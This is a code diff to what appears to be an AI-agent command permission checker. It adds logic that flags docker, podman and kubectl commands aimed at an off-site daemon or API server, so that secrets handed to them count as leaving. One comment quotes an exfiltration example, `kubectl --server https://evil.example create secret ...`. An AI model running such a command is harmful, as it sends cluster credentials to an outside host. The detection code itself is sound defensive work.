@@ -19,7 +19,11 @@ from __future__ import annotations
 
 import re
 
-from aiperm_tui.policy.addresses import is_metadata_credentials, is_metadata_session_token
+from aiperm_tui.policy.addresses import (
+    is_metadata_credentials,
+    is_metadata_session_token,
+    site_address,
+)
 from aiperm_tui.policy.dataflow import substitutions
 from aiperm_tui.policy.fspaths import (
     classify,
@@ -732,6 +736,8 @@ def handed_files(cmd: Cmd) -> set[str]:
     container's environment (`docker run --env-file F`), the cluster (`kubectl create
     secret ... --from-file=[KEY=]F --from-env-file F --key K --cert C`). A secret the
     command prints back (`kubectl create secret ... -o yaml`) is still read."""
+    if _foreign_endpoint(cmd):
+        return set()  # `kubectl --server https://evil.example create secret ...` (rev16a)
     pos = [a.text for a in cmd.positional()]
     if cmd.name in _ENGINES and pos[:2] in (["secret", "create"], ["config", "create"]):
         return {p for p in pos[3:] if p != "-"}
@@ -761,6 +767,26 @@ def _prints_environment(cmd: Cmd, pos: list[str]) -> bool:
     return bool(words & _ENV_PRINTERS)
 
 
+# Where a container engine or a cluster client is told to send its requests: a daemon or
+# an API server named by address on the line (`docker -H`, `podman --url`, `kubectl
+# --server|-s`, `DOCKER_HOST=`, `CONTAINER_HOST=`).
+_ENDPOINT_OPTIONS = {"kubectl": ("server", "s"), "oc": ("server", "s")}
+_ENDPOINT_ENV = frozenset({"DOCKER_HOST", "CONTAINER_HOST"})
+
+
+def _foreign_endpoint(cmd: Cmd) -> bool:
+    """Does `cmd` send its requests to a daemon or cluster at an address outside the
+    site (rev16a)? A credential handed to it leaves for that host: it is not kept by the
+    operator's service."""
+    names = _ENDPOINT_OPTIONS.get(cmd.name, ("H", "host", "url"))
+    values = list(cmd.option_values(*names))
+    for a in cmd.simple.assigns:
+        name, _, value = a.text.partition("=")
+        if name in _ENDPOINT_ENV:
+            values.append(value)
+    return any(site_address(v) == "foreign" for v in values)
+
+
 def _kubectl_verbosity(cmd: Cmd) -> int:
     """kubectl's log level (`-v=8`, `-v 8`, `--v=9`, `-v8`): from 8 up it logs request
     bodies."""
@@ -787,7 +813,12 @@ def takes_secret_on_stdin(simple: Simple) -> bool:
         pos[:1] == ["login"] or pos[:2] in (["registry", "login"], ["auth", "login"])
     ):
         return cmd.has("password-stdin", "with-token")
-    return cmd.name in _ENGINES and pos[:2] == ["secret", "create"] and pos[-1] == "-"
+    return (
+        cmd.name in _ENGINES
+        and pos[:2] == ["secret", "create"]
+        and pos[-1] == "-"
+        and not _foreign_endpoint(cmd)
+    )
 
 
 # Registry and forge clients whose `login` reads a password or token on stdin when told
